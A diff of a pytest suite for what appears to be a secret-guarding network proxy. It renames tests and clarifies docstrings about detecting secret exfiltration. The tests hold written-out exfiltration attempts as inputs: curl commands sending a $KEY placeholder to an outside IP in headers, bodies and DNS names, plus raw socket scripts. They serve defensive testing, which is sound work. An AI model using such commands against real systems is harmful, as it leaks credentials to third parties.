@@ -40,7 +40,7 @@ def sh(online, script, options=("-s", "KEY"), rules=OPEN):
 
 
 def renderings(value):
-    """What servers may write it as, and of each what gives it away."""
+    """The encodings that servers may use, each with the part that gives the value away."""
     raw = value.encode()
     coded = [base64.b64encode(b"xyz"[:skip] + raw + b"tail").decode() for skip in range(3)]
     plain = [value, raw.hex(), "".join(f"%{b:02x}" for b in raw), "".join(f"\\u{b:04x}" for b in raw)]
@@ -183,8 +183,8 @@ def test_anywhere_else_is_refused(online, words, why):
 @pytest.mark.parametrize("words", [
     '-H "X: $KEY"', '"http://93.184.216.99/?$KEY"', '-d "$KEY"', '-k --http2 -H "X: $KEY" https://93.184.216.99/',
     '-H "Transfer-Encoding: chunked" -d "{\\"a\\":\\"$KEY\\"}"'])
-def test_so_is_what_no_rule_allows(online, words):
-    """The most usual way: to somebody's address.  Nothing leaves, but it is seen for what it is."""
+def test_exfiltration_where_no_rule_allows_it(online, words):
+    """The most usual way: to some stranger's address. Nothing leaves, but it is recorded as exfiltration."""
     give(online, canary())
     url = "" if "://" in words else "http://93.184.216.99/"
     done, fake, said = sh(online, fetch(words, url))
@@ -234,9 +234,9 @@ assert s.recv(512)[5] & 15 == 3
     (70, f"curl -s --resolve {NAME}:443:93.184.216.99 https://{NAME}/", "tls"),
     (70, f"curl -s --resolve {NAME}:80:93.184.216.99 http://{NAME}/", "http"),
 ], ids=["label", "labels", "upper", "ptr", "ptr-labels", "connect", "proxy", "allowed", "socks", "sni", "host"])
-def test_and_what_is_in_a_name(online, size, script, kind):
-    """Names have no case, and are of labels with 63 bytes at most: it is known without its dots.  Nor may
-    one be asked for that a rule allows."""
+def test_exfiltration_in_a_name(online, size, script, kind):
+    """Names have no case, and their labels have at most 63 bytes: a placeholder is found without its dots. It is
+    refused even in a name that a rule allows."""
     value = canary() + binascii.hexlify(os.urandom(size // 2)).decode()
     give(online, value)
     done, fake, said = sh(online, f"{script} || true")
@@ -250,7 +250,7 @@ def test_and_what_is_in_a_name(online, size, script, kind):
     assert "placeholder of the secret 'KEY'" in said and "would allow it" not in said
 
 
-def test_a_name_that_is_like_it_is_none(online):
+def test_a_similar_name_is_not_exfiltration(online):
     """All but its last byte, and in another order."""
     give(online, canary())
     # The next label must not begin with the byte that is left out.
@@ -259,7 +259,7 @@ def test_a_name_that_is_like_it_is_none(online):
     assert {e["why"] for e in online.events(type="dns")} == {"no-rule"}
 
 
-def test_what_is_refused_on_its_way_home_is_not(online):
+def test_a_refused_request_to_the_secrets_host_is_not_exfiltration(online):
     """The secret may go there, though this request may not."""
     give(online, canary(), "--in", "header:authorization", "--in", "body")
     rules = "  - deny: up.example.test\n    paths: [/echo]\n" + OPEN
@@ -268,7 +268,7 @@ def test_what_is_refused_on_its_way_home_is_not(online):
 
 
 def test_a_refused_body_that_never_ends(online):
-    """The refusal is told at once all the same, and what comes later, too."""
+    """The refusal is reported at once all the same, and so are later findings."""
     give(online, canary())
     script = """import os, socket, time
 s = socket.create_connection(("93.184.216.99", 80))
@@ -285,7 +285,7 @@ while s.recv(65536): pass
     online.operator.cloister("kill", online.cell).ok()
 
 
-def test_what_people_are_told_of_it(online):
+def test_messages_about_exfiltration(online):
     give(online, canary())
     _, _, answer = sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
     assert "`-s NAME@HOST:PORT`" in json.loads(answer)["hint"]
@@ -296,8 +296,8 @@ def test_what_people_are_told_of_it(online):
     assert "`-s NAME@HOST:PORT`" in said
 
 
-def test_what_comes_back_has_nothing_of_it(online):
-    """Whatever a server writes it as."""
+def test_responses_contain_no_value(online):
+    """However a server encodes it."""
     real = canary()
     give(online, real)
     page = "\n".join(text for text, _ in renderings(real)) + "\n"
@@ -311,7 +311,7 @@ def test_what_comes_back_has_nothing_of_it(online):
 
 
 def packed(data, coding):
-    """DATA in CODING; the test is skipped where there is no packer."""
+    """DATA in CODING; the test is skipped if there is no program for it."""
     for name in coding.split(", "):
         if name == "br":
             data = pytest.importorskip("brotli").compress(data)
@@ -357,7 +357,7 @@ def test_a_packed_answer_that_is_broken(online):
     assert "gzip data are cut short" in online.events(type="http")[-1]["note"]
 
 
-def test_a_coding_that_nobody_knows(online):
+def test_an_unknown_content_coding(online):
     real = canary()
     give(online, real)
     where = online.lab.raw(b"HTTP/1.1 200 OK\r\ncontent-encoding: rot13\r\ncontent-length: 3\r\n\r\nabc")
@@ -435,7 +435,7 @@ def strays(pid, needle):
     '-H "Authorization: Bearer $KEY" -H "transfer-encoding: chunked" --data-binary @large',
 ], ids=["header", "h2", "form", "basic", "stream", "held", "header-form", "header-held", "header-stream"])
 @pytest.mark.parametrize("host", ["up.example.test", "www.example.test/up"], ids=["1.1", "2"])
-def test_nothing_of_it_stays_behind(online, words, host):
+def test_no_copy_of_the_value_stays(online, words, host):
     """After a request the value is in guarded memory, and nowhere else in the courier."""
     real = canary()
     online.operator.cloister("secret", "add", "KEY", "--host", host.partition("/")[0], "--in", "header",
@@ -470,8 +470,8 @@ def has(pid, needle):
     return False
 
 
-def test_nor_has_an_answer_to_another_request(online):
-    """What a server was told once it may tell at any time."""
+def test_responses_to_other_requests_contain_no_value(online):
+    """A server that once got a value may return it at any time."""
     real = canary()
     give(online, real)
     where = online.lab.raw(f"HTTP/1.1 200 OK\r\ncontent-length: {len(real)}\r\n\r\n{real}".encode())
@@ -479,8 +479,8 @@ def test_nor_has_an_answer_to_another_request(online):
     assert said == fake and real not in done.out
 
 
-def test_nor_has_a_part_of_one(online):
-    """Half of a value is nothing that could be found, so who asks for a part gets all of it."""
+def test_partial_responses_contain_no_value(online):
+    """Half of a value could not be found, so a client that asks for a part gets the whole response."""
     real = canary()
     name = f"{canary()}.txt"
     online.lab.file(name, real)
@@ -504,7 +504,7 @@ def test_other_names_of_a_range(online, name):
     assert name.lower() not in dict(seen["fields"])
 
 
-def test_a_part_that_nobody_asked_for(online):
+def test_an_unrequested_range(online):
     real = canary()
     give(online, real)
     for fields in (f"content-range: bytes 0-6/{len(real)}", "content-type: multipart/byteranges; boundary=x"):
@@ -517,7 +517,7 @@ def test_a_part_that_nobody_asked_for(online):
 
 
 def test_a_part_by_a_request_that_is_signed(online):
-    """Nothing can be left out of that; alone, a key that signs is told to nobody."""
+    """No part of that request can be left out; a signing key alone is sent to no server."""
     online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                              input=f"AKIA{'B' * 16}\n{canary()[:40]}\n").ok()
     give(online, canary())
@@ -539,7 +539,7 @@ def test_two_codings(online):
     assert done.out.count("abc") == 0 and "upstream" in said
 
 
-def test_a_trailer_has_none(online):
+def test_a_trailer_contains_no_value(online):
     give(online, canary())
     script = """import os, socket, ssl
 s = ssl.create_default_context().wrap_socket(socket.create_connection(("up.example.test", 443)),
@@ -651,7 +651,7 @@ except urllib.error.HTTPError as e:
 
 @pytest.mark.parametrize("rule", ["", "    body: {regex: some}\n"])
 def test_a_held_body_with_another_credential(online, rule):
-    """Held to be signed, for a rule, or for both: it is looked at all the same."""
+    """Held for a signature, for a rule, or for both: the body is searched all the same."""
     real_id = "AKIA" + base64.b32encode(os.urandom(10)).decode()
     online.operator.cloister("secret", "add", "AWS", "--like", "aws", "--host", "up.example.test",
                              input=f"{real_id}\n{canary()[:40]}\n").ok()
